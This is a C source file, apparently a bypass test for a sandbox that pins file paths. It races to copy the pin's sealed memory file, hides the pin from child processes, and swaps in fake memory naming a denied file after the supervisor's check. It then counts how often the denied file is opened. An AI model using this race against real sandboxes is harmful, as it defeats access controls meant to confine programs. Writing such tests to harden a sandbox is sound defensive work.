/*
 * A child without the pin that its parent has. Where the pin was it maps the pin's own memory file,
 * which passes for the pin, and which nobody has sealed there; so a thread can put other memory in its
 * place, once the supervisor has looked, that names the denied file.
 *
 * A copy of the file is had by a thread, while the pin is installed. Built with -static, so that a new
 * image makes no path call before main().
 *
 *     madvise  the pin is kept from children by advice about one's own memory
 *     process  by advice about a process's memory, which is one's own (Linux 6.13)
 */
#include "bypass.h"
#include "pin.h"

#include <pthread.h>
#include <sys/uio.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_process_madvise
#define SYS_process_madvise 440
#endif

enum { COPY = 201, FAKE, LOWEST = 3, HIGHEST = 12, MOST_WORDS = 40 };

static _Atomic int copied, started;
static int by_process;

/* The start-up code of a static program would look for its own path: a path call before main(). */
const char *_dl_get_origin(void)
{
    return (const char *)-1;
}

/* Keeps the pins from children. */
static int keep_pins(void)
{
    int self = (int)syscall(SYS_pidfd_open, getpid(), 0), kept = 0;

    for (int i = 0; i < pin_count; i++) {
        struct iovec range = {pins[i].at, pins[i].size};
        long result = by_process ? syscall(SYS_process_madvise, self, &range, 1, MADV_DONTFORK, 0)
                                 : madvise(range.iov_base, range.iov_len, MADV_DONTFORK);
        kept += result >= 0;
    }
    close(self);
    return kept == pin_count;
}

static void *copy_descriptor(void *unused)
{
    started = 1;
    while (!copied)
        for (int fd = LOWEST; fd <= HIGHEST && !copied; fd++)
            if (fcntl(fd, F_GET_SEALS) > 0 && dup2(fd, COPY) == COPY)
                copied = 1;
    return unused;
}

static void *replace(void *unused)
{
    started = 1;
    pin_wander(200e-6);
    for (int i = 0; i < pin_count; i++)
        mmap(pins[i].at, pins[i].size, PROT_READ, MAP_SHARED | MAP_FIXED, FAKE, 0);
    return unused;
}

static void start(void *(*thread)(void *))
{
    pthread_t made;

    started = 0;
    if (pthread_create(&made, NULL, thread, NULL) != 0)
        attack_fail("pthread_create");
    while (!started)
        sched_yield();
}

/* One attempt, in a child that has the copied file, and no pin. */
static enum outcome open_through_copy(void)
{
    for (int i = 0; i < pin_count; i++)
        if (mmap(pins[i].at, pins[i].size, PROT_READ, MAP_SHARED | MAP_FIXED_NOREPLACE, COPY, 0) !=
            (void *)pins[i].at)
            return OTHER;
    start(replace);
    switch (pin_open(pin_allowed)) {
    case 'D': return ESCAPED;
    case 'A': return ALLOWED;
    case '-': return REFUSED;
    default: return OTHER;
    }
}

/* Makes a file as large as the largest pin, all of whose pages name the denied file. */
static void make_fake(void)
{
    size_t size = 0;
    char *fake;

    for (int i = 0; i < pin_count; i++)
        size = pins[i].size > size ? pins[i].size : size;
    if (dup2((int)syscall(SYS_memfd_create, "fake", 0), FAKE) != FAKE ||
        ftruncate(FAKE, (off_t)size) != 0)
        attack_fail("the fake");
    fake = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, FAKE, 0);
    if (fake == MAP_FAILED)
        attack_fail("the fake");
    pin_fill(fake, size);
}

int main(int argc, char **argv)
{
    attack_begin(argc, argv);
    if (attack.words < 1)
        return 2;
    by_process = strcmp(attack.word[0], "process") == 0;
    if (by_process && !kernel_has(6, 13))
        attack_unsupported("process_madvise");
    pin_paths();
    start(copy_descriptor);
    pin_find();
    if (!copied && attack.words < MOST_WORDS) {
        /* The descriptor was there for a moment only. A new image is given another pin. */
        char *words[MOST_WORDS + 5] = {0};
        memcpy(words, argv, (size_t)argc * sizeof *argv);
        words[argc] = "again";
        execv(argv[0], words);
        attack_fail(argv[0]);
    }
    if (!copied || !keep_pins()) {
        attack.refused = attack.attempts;
        return attack_report();
    }
    make_fake();
    for (long i = 0; i < attack.attempts; i++)
        count(in_child(open_through_copy));
    return attack_report();
}
